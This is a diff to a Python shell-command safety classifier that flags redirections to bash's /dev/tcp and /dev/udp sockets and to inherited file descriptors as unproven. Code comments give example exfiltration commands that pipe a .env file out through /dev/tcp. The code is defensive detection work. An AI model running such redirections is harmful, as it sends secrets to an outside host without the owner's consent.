@@ -3253,9 +3253,7 @@ class _Ctx:
 
 
 def _classify_cmd(cmd: _Cmd, ctx: _Ctx) -> _V:
-    v = _V()
-    for op, target in cmd.redirs:
-        v.join(_redir_verdict(op, target))
+    v = _redirs_verdict(cmd)
     env_capped: Optional[str] = None
     for name, value in cmd.assigns:
         if env_capped is None and not _env_ok(name, value):
@@ -3667,23 +3665,85 @@ def _manifest_by_name(cmd: _Cmd, program_writes: bool) -> bool:
     return False
 
 
-def _redir_verdict(op: str, target: Optional[_W]) -> _V:
+# bash opens these as sockets for any redirection, `<` included, and a
+# descriptor open both ways carries what a command writes to the host
+# (`cat .env 1</dev/tcp/h/443`).  zsh and dash open no such name.
+_SOCKET_PATHS = ("/dev/tcp/", "/dev/udp/")
+# Descriptors other programs may have opened (the host's, or an earlier
+# redirection's) reached through a path, as `<&3` reaches them by number.
+_FD_PATHS = ("/dev/fd/",)
+
+
+def _may_start(text: str, prefixes: Tuple[str, ...]) -> bool:
+    """Whether a word (NUL: an expansion) may begin with one of the prefixes."""
+    for prefix in prefixes:
+        for a, b in zip(text, prefix):
+            if a == "\0":
+                return True
+            if a != b:
+                break
+        else:
+            if len(text) >= len(prefix):
+                return True
+    return False
+
+
+def _redir_verdict(op: str, target: Optional[_W], known: Optional[set] = None) -> _V:
+    """One redirection.  `known`: the descriptors proven to be the host's
+    standard three or copies of them (0 reads, 1 and 2 the captured output);
+    a duplication of any other may reach a socket or a file."""
     kind = op.lstrip("0123456789")
-    if kind == "<" and target is not None and not target.static \
-            and ("/dev/tcp/" in target.text or "/dev/udp/" in target.text):
-        # bash connects to the host it names: one built from an expansion
-        # carries data out (`< /dev/tcp/$(cat .env).example.com/80`).
+    known = {"0", "1", "2"} if known is None else known
+    if target is not None and kind != "<<<" and target.text.startswith(_SOCKET_PATHS) \
+            or kind == "<" and target is not None and _may_start(target.text, _SOCKET_PATHS):
+        # (Output to an expansion is a write to a target not known already.)
         return _unknown("network_data_unproven")
-    if target is None or kind in ("<", "<<<"):
+    if target is None or kind == "<<<":
+        return _an_read()
+    if kind == "<":
+        text = target.text
+        if target.static and (text.startswith(_FD_PATHS) or text.startswith("/proc/")
+                              and "/fd/" in text) and text.rpartition("/")[2] != "0" \
+                or not target.static and _may_start(text, _FD_PATHS + ("/proc/",)):
+            return _unknown("shell_syntax_unproven")
         return _an_read()
     if kind in ("<&", ">&"):
-        if target.static and (target.text == "-" or target.text.isdigit()):
+        if target.static and target.text == "-":
             return _an_read()
+        if target.static and target.text.isdigit():
+            if target.text in known and (kind == "<&" or target.text != "0"):
+                return _an_read()
+            return _unknown("shell_syntax_unproven")
         if kind == "<&":
             raise _Give("shell_syntax_unproven")
     if target.static and target.text in _DEV_SINKS:
         return _an_read()
     return _write([target], "shell_redirection").blame("redir", op, target.text)
+
+
+def _redirs_verdict(cmd: "_Cmd") -> _V:
+    """A command's redirections in order, following which descriptors stay
+    the standard three: `3>&1` makes 3 one, `3>f` or `1<>f` takes one away."""
+    v = _V()
+    known = {"0", "1", "2"}
+    for op, target in cmd.redirs:
+        v.join(_redir_verdict(op, target, known))
+        kind = op.lstrip("0123456789")
+        if kind in ("<<", "<<-", "<<<"):
+            continue
+        fds = (op[:len(op) - len(kind)] or ("0" if kind.startswith("<") else "1"),)
+        if kind in ("&>", "&>>") or kind == ">&" and not (target and target.text.isdigit()):
+            fds = ("1", "2")
+        static = target is not None and target.static
+        # Still one of the three: a copy of one, or output thrown away.
+        stays = static and (kind in ("<&", ">&") and target.text in known
+                            or ">" in kind and "<" not in kind and target.text in _DEV_SINKS)
+        for fd in fds:
+            if stays:
+                known.add(fd)
+            else:
+                known.discard(fd)
+    return v
 
 
 _UNICODE_DASHES = "\u2010\u2011\u2012\u2013\u2014\u2015\u2212\ufe58\ufe63\uff0d"
